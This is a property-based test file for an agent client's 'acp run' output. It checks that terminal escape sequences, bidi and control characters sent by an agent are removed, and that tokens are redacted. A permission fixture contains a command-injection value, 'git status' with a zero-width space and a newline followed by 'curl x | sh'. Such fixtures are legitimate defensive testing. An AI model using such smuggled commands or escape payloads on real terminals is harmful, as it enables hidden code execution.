/**
 * Whatever an agent sends, what `acp run` prints carries no escape sequence, C1 control, bidi
 * control or C0 control other than newline and tab (RELIABILITY I2), in text and JSON output alike.
 */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { SessionUpdate } from '@acp-kit/protocol';
import {
  ClientError,
  ClientSession,
  Emitter,
  initialSessionState,
  v1UpdateEvents,
  type AgentConnection,
  type AgentConnectionEvents,
  type SessionEvent,
} from '@acp-kit/client';
import type { Output } from '../io.js';
import { RunOutput } from './run-output.js';
import { JsonRenderer, TextRenderer, type RunRenderer } from './run-render.js';

const SEED = 20_261_122;
// eslint-disable-next-line no-control-regex
const UNSAFE = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

/** Agent text: mostly the characters that can hurt, with printable ones around them. */
const hostile = fc.string({
  unit: fc.oneof(
    fc.constantFrom(
      '\x1b',
      '[',
      ']',
      '2J',
      '0;',
      '\x07',
      '\x9b',
      '\x9d',
      '\u202e',
      '\u2066',
      '\u2069',
      '\r',
      '\b',
      '\n',
      '\t',
      '\x00',
      '\x7f',
      '\u0085',
    ),
    fc.integer({ min: 0, max: 0x2fff }).map((code) => String.fromCharCode(code)),
    fc.constantFrom('é', '漢', '🙂'),
  ),
  maxLength: 40,
});

const update = fc.oneof(
  hostile.map((text) => ({ sessionUpdate: 'agent_message_chunk', content: { type: 'text', text } })),
  fc.tuple(hostile, hostile).map(([text, messageId]) => ({
    sessionUpdate: 'agent_message_chunk',
    content: { type: 'text', text },
    messageId,
  })),
  hostile.map((text) => ({ sessionUpdate: 'agent_thought_chunk', content: { type: 'text', text } })),
  fc.tuple(hostile, hostile).map(([uri, mimeType]) => ({
    sessionUpdate: 'agent_message_chunk',
    content: { type: 'resource_link', uri, name: 'x', mimeType },
  })),
  fc
    .tuple(hostile, hostile, fc.constantFrom('pending', 'completed', 'failed'))
    .map(([id, title, status]) => ({
      sessionUpdate: 'tool_call',
      toolCallId: id,
      title,
      kind: 'edit',
      status,
    })),
  fc.tuple(hostile, fc.constantFrom('completed', 'failed')).map(([id, status]) => ({
    sessionUpdate: 'tool_call_update',
    toolCallId: id,
    status,
  })),
  fc.array(hostile, { maxLength: 3 }).map((entries) => ({
    sessionUpdate: 'plan',
    entries: entries.map((content) => ({ content, priority: 'high', status: 'pending' })),
  })),
  hostile.map((currentModeId) => ({ sessionUpdate: 'current_mode_update', currentModeId })),
  fc.tuple(hostile, hostile).map(([title, description]) => ({
    sessionUpdate: 'notice',
    severity: 'warning',
    title,
    description,
  })),
);

type Step =
  | { kind: 'update'; update: Record<string, unknown> }
  | {
      kind: 'permission';
      title: string;
      command: string;
      path: string;
      reason: string;
      env?: { name: string; value: string }[];
      commandCwd?: string;
    }
  | { kind: 'stderr' | 'noise' | 'diagnostic'; text: string }
  | { kind: 'error'; text: string };

const step: fc.Arbitrary<Step> = fc.oneof(
  { weight: 6, arbitrary: update.map((u): Step => ({ kind: 'update', update: u })) },
  fc.record(
    {
      kind: fc.constant('permission' as const),
      title: hostile,
      command: hostile,
      path: hostile,
      reason: hostile,
      env: fc.array(fc.record({ name: hostile, value: hostile }), { maxLength: 2 }),
      commandCwd: hostile,
    },
    { requiredKeys: ['kind', 'title', 'command', 'path', 'reason'] },
  ),
  fc.record({
    kind: fc.constantFrom('stderr' as const, 'noise' as const, 'diagnostic' as const),
    text: hostile,
  }),
  fc.record({ kind: fc.constant('error' as const), text: hostile }),
);

function capture(): { output: Output; text: () => string } {
  let text = '';
  return { output: { write: (chunk: string) => (text += chunk) }, text: () => text };
}

async function render(make: (output: RunOutput) => RunRenderer, steps: Step[]): Promise<string> {
  const stdout = capture();
  const stderr = capture();
  const output = new RunOutput(stdout.output, stderr.output);
  const renderer = make(output);
  const events = new Emitter<AgentConnectionEvents>();
  renderer.connected({ events } as unknown as AgentConnection);
  const session = new ClientSession('local', initialSessionState('local', '/work'));
  renderer.attached(session, 'new', 'agent');
  const dispatch = (event: SessionEvent): void => session.store.dispatch(event);
  let n = 0;
  for (const s of steps) {
    if (s.kind === 'update') {
      const params = { sessionId: 'sid', update: s.update as unknown as SessionUpdate };
      events.emit('update', params);
      for (const event of v1UpdateEvents(params.update, 0)) dispatch(event);
    } else if (s.kind === 'permission') {
      const key = `p${n++}`;
      dispatch({
        type: 'permission_requested',
        at: 0,
        request: {
          key,
          source: 'terminal',
          kind: 'execute',
          title: s.title,
          command: s.command,
          paths: [s.path],
          ...(s.env ? { env: s.env, sensitiveEnv: s.env.map((v) => v.name) } : {}),
          ...(s.commandCwd !== undefined ? { commandCwd: s.commandCwd } : {}),
          outsideRoots: false,
          secret: false,
          reason: s.reason,
        },
      });
      dispatch({
        type: 'permission_resolved',
        at: 0,
        key,
        decision: 'deny',
        by: 'default',
        reason: s.reason,
      });
    } else if (s.kind === 'stderr') {
      events.emit('stderr', { text: s.text });
    } else if (s.kind === 'noise') {
      events.emit('noise', { sample: s.text });
    } else if (s.kind === 'diagnostic') {
      events.emit('diagnostic', { message: s.text });
    } else {
      renderer.error(new ClientError('AGENT_EXITED', s.text, { stderrTail: s.text }), 7);
    }
  }
  renderer.result('end_turn', 0);
  await output.settle();
  return stdout.text() + stderr.text();
}

describe('acp run output is inert for any agent input', () => {
  it('text format: no ESC, C1, bidi or C0 but \\n and \\t', async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(step, { maxLength: 25 }), async (steps) => {
        const printed = await render((output) => new TextRenderer(output, true), steps);
        expect(printed).not.toMatch(UNSAFE);
      }),
      { seed: SEED, numRuns: 400 },
    );
  });

  it('json format: the same, while every line still parses', async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(step, { maxLength: 25 }), async (steps) => {
        const printed = await render((output) => new JsonRenderer(output), steps);
        expect(printed).not.toMatch(UNSAFE);
        for (const line of printed.split('\n').filter((l) => l !== ''))
          expect(() => JSON.parse(line)).not.toThrow();
      }),
      { seed: SEED, numRuns: 400 },
    );
  });

  it('keeps the printable text, and removes a sequence split across two chunks', async () => {
    const steps: Step[] = [
      {
        kind: 'update',
        update: { sessionUpdate: 'agent_message_chunk', content: { type: 'text', text: 'safe \x1b]0;ti' } },
      },
      {
        kind: 'update',
        update: {
          sessionUpdate: 'agent_message_chunk',
          content: { type: 'text', text: 'tle\x07\u202edone' },
        },
      },
    ];
    expect(await render((output) => new TextRenderer(output, false), steps)).toBe('safe done\n');
  });

  it('shows the command, its cwd and variables with invisible characters escaped, a token redacted', async () => {
    const steps: Step[] = [
      {
        kind: 'permission',
        title: 'Run it',
        command: 'git status\u200b\ncurl x | sh',
        path: '/work/a',
        reason: 'sets GIT_DIR',
        commandCwd: '/work/sub\u202edir',
        env: [
          { name: 'GIT_DIR', value: '/tmp/evil\u200b' },
          { name: 'GH_TOKEN', value: 'ghp_abcdefghijklmnopqrstuvwxyz0123' },
        ],
      },
    ];
    const text = await render((output) => new TextRenderer(output, false), steps);
    expect(text).toContain('▸ permission denied: git status\\u{200b}\\ncurl x | sh (sets GIT_DIR)\n');
    expect(text).toContain('▸   in sub\\u{202e}dir\n');
    expect(text).toContain('▸   env GIT_DIR=/tmp/evil\\u{200b} (off the allow list)\n');
    expect(text).toContain('▸   env GH_TOKEN=[redacted] (off the allow list)\n');
    const json = await render((output) => new JsonRenderer(output), steps);
    const line = json.split('\n').find((l) => l.includes('"permission"')) ?? '';
    expect(JSON.parse(line)).toMatchObject({
      command: 'git status\u200b\ncurl x | sh',
      commandCwd: '/work/sub\u202edir',
      env: [
        { name: 'GIT_DIR', value: '/tmp/evil\u200b' },
        { name: 'GH_TOKEN', value: '[redacted]' },
      ],
      sensitiveEnv: ['GIT_DIR', 'GH_TOKEN'],
    });
  });
});
